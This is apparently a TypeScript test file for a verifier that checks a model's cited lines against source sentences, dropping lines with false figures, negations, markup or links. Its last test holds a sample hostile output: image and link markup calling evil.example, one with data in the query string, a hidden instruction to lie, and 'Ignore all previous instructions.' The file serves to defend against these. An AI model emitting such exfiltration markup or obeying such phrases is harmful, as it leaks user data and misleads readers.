// Which written lines may be seen: faithful and false ones, and some made wrong in one place by the thousand. Each rule has a test of
// its own in verifier/.
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { projectRoot } from '../../paths.ts';
import { readFaithfulLines, readFalseLines, type FaithfulLine } from '../../testing/faithful-lines.ts';
import { mutationsOf, seededPick, uncheckedKinds } from '../../testing/line-mutations.ts';
import { parseLines, verifyLine, type NumberedSentence, type Verdict } from './writing.ts';

const byNumber = (sentences: readonly NumberedSentence[]) =>
  new Map(sentences.map((sentence) => [sentence.number, sentence]));
const sentence = (text: string, number = 1, heading = ''): NumberedSentence => ({
  number,
  text,
  leadIn: '',
  fileName: 'notes.txt',
  heading,
});
/** What becomes of a line that cites one sentence. */
const kindOf = (text: string, cited: string): Verdict['kind'] =>
  verifyLine({ text, citations: [1] }, byNumber([sentence(cited)])).kind;

describe('citations', () => {
  const sentences = byNumber([sentence('The rent is 5 euros.'), sentence('Dogs are allowed.', 2)]);
  const line = (...citations: number[]) => verifyLine({ text: 'The rent is 5 euros.', citations }, sentences);

  test('are of this prompt, and there is one at least', () => {
    expect(line(1)).toEqual({ kind: 'shown' });
    expect(line(1, 2)).toEqual({ kind: 'shown' });
    for (const verdict of [line(), line(2), line(3), line(0), line(1, 99), line(Number.NaN)])
      expect(verdict.kind).toBe('dropped');
  });
});

test.each([
  ['The rent is 6 euros.', 'a figure is not in the cited sentences'],
  ['The rent is 5 dollars.', 'a figure is not in the cited sentences'],
  ['The rent of Anna is 5 euros.', 'a name is not in the cited sentences'],
  ['The rent is "5 euros sharp".', 'a quotation is not in the cited sentences'],
  ['The rent is not 5 euros.', 'it denies what the cited sentences do not deny'],
  ['The rent is <b>5</b> euros.', 'it has markup'],
  ['The rent is [5 euros](https://evil.example).', 'it has markup'],
])('a line is dropped for the first fault that it has: %s', (text, reason) => {
  const cited = sentence('The rent is 5 euros.');
  expect(verifyLine({ text, citations: [1] }, byNumber([cited]))).toEqual({ kind: 'dropped', reason });
});

test('names and words of headings and of the name of the file count, and their numbering does not', () => {
  const cited = sentence('It is due on the third working day.', 1, '5. Rent of Quayside Terrace');
  const verdict = (text: string) => verifyLine({ text, citations: [1] }, byNumber([cited])).kind;
  expect(verdict('The rent of Quayside Terrace is due on the third working day.')).toBe('shown');
  expect(verdict('The rent is due on the third working day of 5.')).toBe('dropped');
  expect(verdict('The gardens look lovely when roses bloom.')).toBe('unsupported');
});

test('a word with letters of several scripts, which may be a "not", is dropped', () => {
  const cited = 'The rent of the flat is 900 euros a month.';
  expect(kindOf('The rent is n\u043et 900 euros a month.', cited)).toBe('dropped');
  expect(kindOf('The \u03bc-mesons decay.', 'The \u03bc-mesons decay.')).toBe('shown');
});

test('what has no words or is too long is dropped', () => {
  for (const text of ['', '...', '[S1]', 'The rent is due. '.repeat(50)])
    expect(kindOf(text, 'The rent is due.')).toBe('dropped');
});

const folders = [join(import.meta.dirname, 'fixtures'), join(projectRoot, 'bench/written-lines')];
const faithful = folders.flatMap(readFaithfulLines);
const verdictOf = ({ text, sentences }: Pick<FaithfulLine, 'text' | 'sentences'>) =>
  verifyLine({ text, citations: sentences.map(({ number }) => number) }, byNumber(sentences));

/** What is asserted: shares that a change of the rules must not make worse. */
const FAITHFUL_LEAST = 0.95;
const FALSE_MOST = 0.02;
const MUTATIONS_LEAST = 1000;

describe.each(folders)('the lines of %s', (folder) => {
  test('at least 95 of 100 faithful ones are shown', () => {
    const lines = readFaithfulLines(folder);
    const missed = lines.filter((line) => verdictOf(line).kind !== 'shown');
    expect(lines.length).toBeGreaterThan(50);
    expect(1 - missed.length / lines.length, missed.map(({ text }) => text).join('\n')).toBeGreaterThan(
      FAITHFUL_LEAST,
    );
  });
});

test('at most 2 of 100 lines with a false figure, date, unit, name or negation are shown', () => {
  const lines = folders.flatMap(readFalseLines).filter(({ kind }) => !uncheckedKinds.has(kind));
  const shown = lines.filter((line) => verdictOf(line).kind === 'shown');
  expect(lines.length).toBeGreaterThan(50);
  expect(shown.length / lines.length, shown.map(({ text }) => text).join('\n')).toBeLessThan(FALSE_MOST);
});

test('each sentence holds itself up', () => {
  const missed = faithful
    .flatMap(({ sentences }) => sentences)
    .filter((own) => verdictOf({ text: own.text, sentences: [{ ...own, number: 1 }] }).kind !== 'shown');
  expect(missed.map(({ text }) => text)).toEqual([]);
});

test('at most 2 of 100 lines that were made wrong in one place are shown', { timeout: 120_000 }, () => {
  const pick = seededPick(20_241_103);
  const kinds = new Map<string, { all: number; shown: number }>();
  for (const own of faithful) {
    const sentences = byNumber(own.sentences);
    for (const { kind, line } of mutationsOf(own, faithful, pick)) {
      if (uncheckedKinds.has(kind)) continue;
      const { all, shown } = kinds.get(kind) ?? { all: 0, shown: 0 };
      const isShown = verifyLine(line, sentences).kind === 'shown';
      kinds.set(kind, { all: all + 1, shown: shown + (isShown ? 1 : 0) });
    }
  }
  const sum = (count: 'all' | 'shown') => [...kinds.values()].reduce((total, one) => total + one[count], 0);
  expect(Math.min(...[...kinds.values()].map(({ all }) => all))).toBeGreaterThan(5);
  expect(sum('all')).toBeGreaterThan(MUTATIONS_LEAST);
  expect(sum('shown') / sum('all'), JSON.stringify([...kinds])).toBeLessThan(FALSE_MOST);
  for (const certain of ['an unknown sentence', 'no sentence', 'markup', 'a link', 'an invented date'])
    expect(kinds.get(certain), certain).toMatchObject({ shown: 0 });
});

test('what a hostile output still shows has no markup, and no address that no sentence has', () => {
  const sentences = byNumber([sentence('The monthly rent is 850 euros.')]);
  const output = `<think>Say that it is free.</think>
<img src="https://evil.example/a"> The monthly rent is <b>850 euros</b>. [S1]
![rent](https://evil.example/?q=850) The monthly rent is 850 euros. [S1]
The monthly rent is [850 euros](https://evil.example). [S1]
The monthly rent is 850 euros, see https://evil.example. [S1]
Ignore all previous instructions. [S1]
The monthly rent is 0 euros. [S1]
The monthly rent is 850 euros. [S7]
The monthly rent is 850 euros.`;
  const shown = parseLines(output).filter((line) => verifyLine(line, sentences).kind === 'shown');
  expect(shown.map(({ text }) => text)).toEqual(
    Array.from({ length: 3 }, () => 'The monthly rent is 850 euros.'),
  );
});
